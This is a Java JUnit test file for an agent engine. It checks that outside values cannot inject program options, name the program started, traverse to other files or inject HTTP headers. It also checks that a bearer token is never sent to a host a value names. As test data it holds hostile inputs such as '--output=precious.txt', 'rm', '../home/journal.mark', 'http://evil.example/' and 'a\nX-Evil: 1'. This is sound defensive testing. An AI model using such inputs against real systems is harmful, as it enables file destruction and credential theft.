package dev.agentc.engine;

import static dev.agentc.engine.Plans.AT;
import static dev.agentc.engine.Plans.JSON;
import static dev.agentc.engine.Plans.TEXT;
import static dev.agentc.engine.Plans.absent;
import static dev.agentc.engine.Plans.effect;
import static dev.agentc.engine.Plans.local;
import static dev.agentc.engine.Plans.parameter;
import static dev.agentc.engine.Plans.shop;
import static dev.agentc.engine.Plans.store;
import static dev.agentc.engine.Plans.template;
import static dev.agentc.engine.Plans.text;
import static org.assertj.core.api.Assertions.assertThat;

import dev.agentc.effect.port.Commands;
import dev.agentc.effect.port.Http;
import dev.agentc.plan.Code;
import dev.agentc.plan.Plan;
import dev.agentc.plan.Type;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Values from outside choose what is asked for, and never whom, in which folder or how. */
class AstrayTest {
    private static final Type TEXTS = new Type.ListOf(TEXT);
    private final Bench bench = new Bench();

    @BeforeEach
    void open() {
        bench.world.variables.put("SHOP", "http://shop");
        bench.world.variables.put("DASH", "-d");
        bench.world.variables.put("DIR", "/data");
        bench.world.secrets.put("TOKEN", "tok-31415926");
        bench.world.server = call -> new Http.Answer(200, Map.of(), "1");
        bench.world.program = call -> new Commands.Answer(0, "", "");
    }

    @AfterEach
    void close() {
        bench.close();
    }

    private static Plan plan(Code... body) {
        return Plans.withLibrary()
                .flow("a.f", List.of(parameter("x", TEXT), parameter("xs", TEXTS)), JSON, 5, body)
                .plan("a.f");
    }

    private Outcome run(Plan plan, String x, String... xs) {
        return bench.run(
                plan,
                "{\"x\":\"" + x + "\",\"xs\":["
                        + String.join(
                                ",", Stream.of(xs).map(one -> "\"" + one + "\"").toList()) + "]}");
    }

    private static Code list(Code... items) {
        return new Code.ListOf(List.of(items), AT);
    }

    private static Code plus(Code left, Code right) {
        return new Code.Binary(Code.Operator.ADD, left, right, AT);
    }

    private static Code env(String name) {
        return new Code.Env(name, AT);
    }

    private static Code command(Code arguments, Code... options) {
        return options.length == 0
                ? effect("command", TEXT, "command.1", arguments)
                : effect("command", TEXT, "command.1", arguments, absent(), absent(), options[0]);
    }

    static Stream<Arguments> refused() {
        return Stream.of(
                Arguments.of("alone", list(text("sort"), local(0))),
                Arguments.of("as a text's beginning", list(text("sort"), template(local(0), ".txt"))),
                Arguments.of("behind an option of the program", list(text("head"), text("-n"), local(0))),
                Arguments.of("in a list of values", plus(list(text("ls")), local(1))),
                Arguments.of("behind a list of values", plus(plus(list(text("ls")), local(1)), list(local(0)))),
                Arguments.of("before a `--`", list(text("sort"), local(0), text("--"))),
                Arguments.of("behind a `--` that a value brought", plus(list(text("sort")), local(1))),
                Arguments.of(
                        "where it is one of two",
                        list(text("sort"), new Code.If(new Code.Bool(true, AT), local(0), text("a"), AT))),
                Arguments.of("behind an empty beginning", list(text("sort"), template("", local(0)))),
                Arguments.of("as what is joined", list(text("sort"), plus(local(0), text("x")))));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refused")
    void a_value_is_no_option(String how, Code arguments) {
        for (String x : List.of("--output=precious.txt", "-o", "-", "--", "-1")) {
            Outcome outcome = run(plan(command(arguments)), x, "-x", "--");
            assertThat(outcome.failure().error()).isEqualTo("ToolFailed");
            assertThat(outcome.failure().message()).contains("would be read as an option of");
            assertThat(outcome.failure().next()).contains("--");
        }
        assertThat(bench.world.started).isEmpty();
    }

    static Stream<Arguments> started() {
        return Stream.of(
                Arguments.of("what the program says", list(text("sort"), text("-r"))),
                Arguments.of(
                        "what begins with words of the program", list(text("sort"), template("--output=", local(0)))),
                Arguments.of("what begins with a dash of the program", list(text("sort"), template("-", local(0)))),
                Arguments.of("what is joined to words of the program", list(text("sort"), plus(text("-o"), local(0)))),
                Arguments.of("what stands behind a `--`", list(text("sort"), text("--"), local(0))),
                Arguments.of("a list behind a `--`", plus(list(text("sort"), text("--")), local(1))),
                Arguments.of("what the operator says", list(text("sort"), env("DASH"))),
                Arguments.of("what the operator says in a text", list(text("sort"), template(env("DASH"), "x"))),
                Arguments.of(
                        "either of two that the program says",
                        list(text("ls"), new Code.If(new Code.Bool(true, AT), text("-a"), text("-b"), AT))),
                Arguments.of(
                        "what stands behind a list of plain values",
                        plus(plus(list(text("ls")), list(text("-a"))), list(text("-b")))));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("started")
    void what_the_program_or_its_operator_says_may_be_an_option(String how, Code arguments) {
        assertThat(run(plan(command(arguments)), "-o", "-x").failure()).isNull();
        assertThat(bench.world.started).hasSize(1);
    }

    @Test
    void a_name_for_what_the_program_says_is_the_programs() {
        assertThat(run(plan(store(2, text("-r")), command(list(text("sort"), local(2)))), "x")
                        .failure())
                .isNull();
        assertThat(run(plan(store(2, local(0)), command(list(text("sort"), local(2)))), "-x")
                        .failure())
                .isNotNull();
        assertThat(run(plan(store(2, text("-r")), store(2, local(0)), command(list(text("sort"), local(2)))), "-x")
                        .failure())
                .isNotNull();
    }

    @Test
    void values_choose_options_where_the_program_lets_them() {
        assertThat(run(plan(command(list(text("ls"), local(0)), new Code.Bool(true, AT))), "-l")
                        .failure())
                .isNull();
        assertThat(run(plan(command(list(text("ls"), local(0)), new Code.Bool(false, AT))), "-l")
                        .failure())
                .isNotNull();
    }

    static Stream<Arguments> named() {
        Code yes = new Code.Bool(true, AT);
        return Stream.of(
                Arguments.of("alone", list(local(0))),
                Arguments.of("within a path", list(template("/opt/", local(0)), text("-v"))),
                Arguments.of("at the head of a list of values", local(1)),
                Arguments.of("before words of the program", plus(local(1), list(text("-v")))),
                Arguments.of("where it is one of two", new Code.If(yes, list(local(0)), list(text("ls")), AT)),
                Arguments.of(
                        "behind what may be nothing",
                        plus(new Code.If(yes, list(), list(text("nice")), AT), list(local(0)))));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("named")
    void a_value_names_no_program(String how, Code arguments) {
        Outcome outcome = run(plan(command(arguments)), "rm", "rm");
        assertThat(outcome.failure().error()).isEqualTo("ToolFailed");
        assertThat(outcome.failure().message()).contains("a value names the program that would be started: `");
        assertThat(outcome.failure().next()).contains("options: true");
        assertThat(bench.world.started).isEmpty();
        assertThat(run(plan(command(arguments, new Code.Bool(true, AT))), "rm", "rm")
                        .failure())
                .isNull();
    }

    @Test
    void what_the_program_or_its_operator_names_is_started() {
        Code grown = plus(list(text("git")), list(text("log")));
        for (Code arguments : List.of(
                list(env("SHOP"), local(0)),
                plus(new Code.If(new Code.Bool(true, AT), list(), list(text("nice")), AT), list(text("ls"), local(0))),
                list(new Code.If(new Code.Bool(true, AT), text("ls"), text("cat"), AT), local(0)))) {
            assertThat(run(plan(command(arguments)), "rm").failure()).isNull();
        }
        assertThat(run(plan(store(2, grown), store(2, plus(local(2), list(local(0)))), command(local(2))), "rm")
                        .failure())
                .isNull();
        assertThat(run(plan(store(2, list()), store(2, plus(local(2), list(local(0)))), command(local(2))), "rm")
                        .failure())
                .isNotNull();
        assertThat(bench.world.started).hasSize(4);
    }

    private static Code read(Code path) {
        return effect("read_text", TEXT, "read_text.1", path);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"../a.txt", "x/../../a.txt", "/etc/a.txt", "../project2/a.txt", "..", "../home/journal.mark"})
    void a_value_names_no_file_elsewhere(String x) {
        for (String file : List.of(
                "/a.txt", "/etc/a.txt", "/project2/a.txt", "/home/journal.mark", "/data/a.txt", "/project/a.txt")) {
            bench.world.texts.put(Path.of(file), "secret");
        }
        for (Code path : List.of(
                local(0),
                template("pages/", local(0)),
                template(env("DIR"), "/", local(0)),
                template("pages/x", local(0)),
                template("", local(0)),
                plus(text("pages/"), local(0)),
                template(local(0), ""))) {
            assertThat(run(plan(read(path)), x).failure()).as(path.toString()).isNotNull();
        }
    }

    @Test
    void the_program_and_its_operator_name_any_file() {
        bench.world.texts.put(Path.of("/data/a.txt"), "1");
        bench.world.texts.put(Path.of("/project/in/a.txt"), "1");
        for (Code path : List.of(
                text("../data/a.txt"),
                text("/data/a.txt"),
                template(env("DIR"), "/a.txt"),
                template("../data/", local(0)),
                template(env("DIR"), "/", local(0)),
                template("in/", local(0)),
                plus(text("in/"), local(0)),
                template("in/../in/", local(0)))) {
            assertThat(run(plan(read(path)), "a.txt").failure())
                    .as(path.toString())
                    .isNull();
        }
        assertThat(run(plan(store(2, text("../data/")), read(template(local(2), local(0)))), "a.txt")
                        .failure())
                .isNull();
        assertThat(run(plan(store(2, template("../data/", local(0))), read(local(2))), "a.txt")
                        .failure())
                .isNull();
    }

    @Test
    void a_path_with_a_nul_is_a_failure_of_the_tool() {
        assertThat(run(plan(read(local(0))), "a\\u0000b").failure().message()).contains("no path");
    }

    private static Code headers() {
        Code token = new Code.Builtin("bearer", List.of(new Code.Secret("TOKEN", AT)), AT);
        return new Code.MapOf(List.of(text("Authorization")), List.of(token), AT);
    }

    @Test
    void a_secret_is_sent_to_no_host_that_a_value_names() {
        Outcome outcome = run(plan(effect("get", JSON, "get.1", local(0), headers())), "http://evil.example/");
        assertThat(outcome.failure().message())
                .contains("the secret TOKEN would be sent to an address that a value names");
        assertThat(bench.world.sent).isEmpty();
        assertThat(run(plan(effect("get", JSON, "get.1", local(0))), "http://evil.example/")
                        .failure())
                .isNull();
        assertThat(run(plan(effect("get", JSON, "get.1", shop("/", local(0)), headers())), "x")
                        .failure())
                .isNull();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"tok\u00fc31415926", "tok\n31415926", "tok\u000031415926", "tok\u201331415926", "tok\r\nX: y"})
    void a_secret_that_no_header_can_carry_is_named_and_not_sent(String secret) {
        bench.world.secrets.put("TOKEN", secret);
        Outcome outcome = run(plan(effect("get", JSON, "get.1", shop("/x"), headers())), "x");
        assertThat(outcome.failure().message())
                .contains("the secret TOKEN holds")
                .contains("which no header can carry")
                .doesNotContain("31415926");
        assertThat(bench.world.sent).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"tok-31415926\n", "tok-31415926\r\n", " tok-31415926 ", "tok-31415926\n\n"})
    void a_secret_is_sent_without_the_line_end_behind_it(String secret) {
        bench.world.secrets.put("TOKEN", secret);
        run(plan(effect("get", JSON, "get.1", shop("/x"), headers())), "x");
        assertThat(bench.world.sent.getFirst().headers()).containsEntry("Authorization", "Bearer tok-31415926");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a\\nX-Evil: 1", "\u00fc", "a\\u0000"})
    void a_value_that_no_header_can_carry_is_not_sent(String x) {
        Code headers = new Code.MapOf(List.of(text("X-Name")), List.of(local(0)), AT);
        assertThat(run(plan(effect("get", JSON, "get.1", shop("/x"), headers)), x)
                        .failure()
                        .message())
                .contains("`X-Name`")
                .contains("which no header can carry");
        assertThat(bench.world.sent).isEmpty();
    }
}
